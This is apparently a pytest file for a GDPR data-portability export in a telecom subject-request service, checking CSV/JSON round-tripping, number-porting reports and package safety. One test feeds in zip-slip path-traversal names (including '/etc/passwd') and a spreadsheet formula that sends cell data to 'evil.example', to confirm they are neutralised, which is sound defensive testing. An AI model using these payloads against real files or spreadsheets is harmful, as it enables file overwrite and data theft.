"""The portability package (art. 20): data.json, one CSV per dataset, every field documented."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest

from app.answers.packages import PackageWriter, UnsafeEntryName, csv_cell, from_csv_cell
from app.connectors import base
from app.services.dispatch import Dispatcher
from tests.conftest import make_settings
from tests.helpers import create
from tests.responses.conftest import PROVIDED, check_manifest, connectors, download, finish, link


def _parse(package, name: str) -> tuple[list[str], list[list[str]]]:  # type: ignore[no-untyped-def]
    raw = package.read(name)
    assert not raw.startswith(b"\xef\xbb\xbf")  # UTF-8 without a byte-order mark
    text = raw.decode("utf-8")
    assert text.endswith("\r\n")  # RFC 4180 line ends
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    return rows[0], rows[1:]


async def test_csv_parses_back_to_exactly_the_json(app, client, portal) -> None:  # type: ignore[no-untyped-def]
    made = connectors(crm=lambda call: base.done("Exported.", PROVIDED))
    body = await finish(app, client, portal, {"type": "portability"}, made)
    assert body["status"] == "completed"
    package = await download(client, portal, body["id"])
    check_manifest(package, {"manifest.json", "report.html", "data.json", "customer.csv",
                             "services.csv", "consents.csv", "call_history.csv"})
    data = json.loads(package.read("data.json"))
    assert data["format"] == "connect2ip-dsr-portability/1" and data["number_porting"] is None
    datasets = {d["name"]: d for d in data["datasets"]}
    # the call history is observed data the customer generated, so it travels too (WP242)
    observed = datasets.pop("call_history")
    assert observed["observed"] is True and observed["row_count"] == 3
    header, calls = _parse(package, "call_history.csv")
    assert header == [f["name"] for f in observed["fields"]] and len(calls) == 3
    assert set(datasets) == set(PROVIDED)
    for name, dataset in datasets.items():
        assert dataset["rows"] == PROVIDED[name]
        header, rows = _parse(package, dataset["file"])
        assert header == [f["name"] for f in dataset["fields"]]
        types = {f["name"]: f["type"] for f in dataset["fields"]}
        parsed = [{h: from_csv_cell(cell, types[h]) for h, cell in zip(header, row, strict=True)}
                  for row in rows]
        assert parsed == dataset["rows"], name
    assert {f["name"]: f["type"] for f in datasets["consents"]["fields"]} == {
        "purpose": "string", "given": "boolean", "at": "string"}
    raw = package.read("customer.csv").decode()
    assert '"Storgatan 12 A, ""uppgång"" 2"' in raw  # quoted per RFC 4180
    html = package.read("report.html").decode()
    for text in ("Datamängder och fält", "customer.csv", "Personnummer", "sant/falskt",
                 "RFC 4180", "Integritetsskyddsmyndigheten"):
        assert text in html, text


async def test_json_only_when_asked(app, client, portal) -> None:  # type: ignore[no-untyped-def]
    made = connectors(crm=lambda call: base.done("Exported.", PROVIDED))
    body = await finish(app, client, portal,
                        {"type": "portability", "details": {"formats": ["json"]}}, made)
    package = await download(client, portal, body["id"])
    check_manifest(package, {"manifest.json", "report.html", "data.json", "call_history.jsonl"})
    lines = package.read("call_history.jsonl").decode().splitlines()
    assert [json.loads(line)["id"] for line in lines] == [
        "CH-1001-0000000", "CH-1001-0000001", "CH-1001-0000002"]


async def test_number_porting_says_what_was_sent_to_snpac(app, client, portal, agent) -> None:  # type: ignore[no-untyped-def]
    await link(client, agent, "C-1001", "snpac", "+46470123456")
    made = connectors(
        crm=lambda call: base.done("Exported.", PROVIDED),
        snpac=lambda call: base.done("Port of the number to Telia booked for 2026-12-02.",
                                     {"booked_port": {"to_operator": "Telia",
                                                      "date": "2026-12-02"}}))
    body = await finish(app, client, portal, {"type": "portability", "language": "en",
                                              "details": {"receiving_operator": "Telia"}}, made)
    assert {t["action"] for t in body["tasks"]} == {"export_provided", "port_number"}
    package = await download(client, portal, body["id"])
    porting = json.loads(package.read("data.json"))["number_porting"]
    assert porting["sent_to"] == "SNPAC" and porting["receiving_operator"] == "Telia"
    assert porting["phone_number"] == "+46470123456" and porting["status"] == "done"
    html = package.read("report.html").decode()
    assert "we sent only the phone number and the name of the receiving operator" in html
    assert "No other data about you has been sent to Telia" in html
    assert "0470-12 34 56" in html and "+46470123456" not in html
    assert "The port is authorised from 2026-12-02." in html and porting["date"] == "2026-12-02"
    assert "your telephony subscription for the number 0470-12 34 56 with us ends" in html


HOSTILE_KEYS = ("../../../../../tmp/zipslip", "sub\\..\\..\\win", "..", "/etc/passwd",
                "Förbindelse", "snpac-port", "call_history", "manifest")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_partner_keys_never_become_file_names_or_formulas(app, client, portal, agent) -> None:  # type: ignore[no-untyped-def]
    """A signed partner callback names its datasets: the zip's file names are still the
    service's own slugs, and every CSV cell, header included, is neutralised."""
    from tests.api.test_webhooks import signed

    await link(client, agent, "C-1001", "snpac", "+46470123456")
    made = connectors(crm=lambda call: base.done("Exported.", PROVIDED),
                      snpac=lambda call: base.awaiting_callback(str(call.task_id)))
    created = await create(client, portal, {"type": "portability", "language": "en",
                                            "details": {"receiving_operator": "Telia"}})
    await Dispatcher(make_settings(app.state.settings.database_url), app.state.sessionmaker,
                     made).run_until_idle()
    body = (await client.get(f"/v1/requests/{created['id']}", headers=portal)).json()
    snpac = next(t for t in body["tasks"] if t["system"] == "snpac")
    assert snpac["status"] == "awaiting_callback"
    data = {key: [{FORMULA: "x", "plain": FORMULA}] for key in HOSTILE_KEYS}
    data["snpac-port"] = {"-1+1": 1}  # a dataset as one object, its field a formula too
    raw, headers = signed("snpac", {
        "subject_request_id": snpac["id"], "request_status": "completed",
        "subject_identities": [{"identity_type": "controller_customer_id",
                                "identity_value": "+46470123456"}],
        "result": {"outcome": "done", "summary": "Port booked.", "data": data}})
    answer = await client.post("/v1/webhooks/snpac", content=raw, headers=headers)
    assert answer.status_code == 200 and answer.json()["status"] == "applied", answer.text
    app.state.connectors = made
    package = await download(client, portal, created["id"])
    names = package.namelist()
    assert len(names) == len(set(names))
    for name in names:
        stem, _, suffix = name.partition(".")
        assert re.fullmatch(r"[a-z0-9][a-z0-9_-]*", stem) and suffix in (
            "json", "html", "csv"), name
    manifest = check_manifest(package, set(names))
    assert {f["name"] for f in manifest["files"]} == set(names) - {"manifest.json"}
    datasets = {(d["system"], d["name"]): d
                for d in json.loads(package.read("data.json"))["datasets"]}
    for key in HOSTILE_KEYS:  # the partner's key is data in data.json, never a path
        dataset = datasets[("snpac", key)]
        assert dataset["file"] in names and "/" not in dataset["file"]
        header, rows = _parse(package, dataset["file"])
        assert header == [csv_cell(f["name"]) for f in dataset["fields"]]
        assert [from_csv_cell(h, "string") for h in header] == [
            f["name"] for f in dataset["fields"]]
        for cell in [*header, *(c for row in rows for c in row)]:
            assert not cell.startswith(("=", "+", "-", "@")), (key, cell)
    assert ("crm", "customer") in datasets and "customer.csv" in names  # safe names stay


@pytest.mark.parametrize("name", ["../x.csv", "a/b.csv", "a\\b.csv", "..", ".hidden.csv",
                                  "C:x.csv", "x.csv/", "x..csv", "X.csv", "", "data.json"])
def test_the_writer_refuses_a_name_that_is_not_a_plain_unique_file(name: str) -> None:
    writer = PackageWriter(datetime(2026, 11, 30, tzinfo=UTC))
    try:
        writer.write_json("data.json", {})
        with pytest.raises(UnsafeEntryName):
            writer.write_json(name, {})
        assert [f.name for f in writer.files] == ["data.json"]
    finally:
        writer.abort()
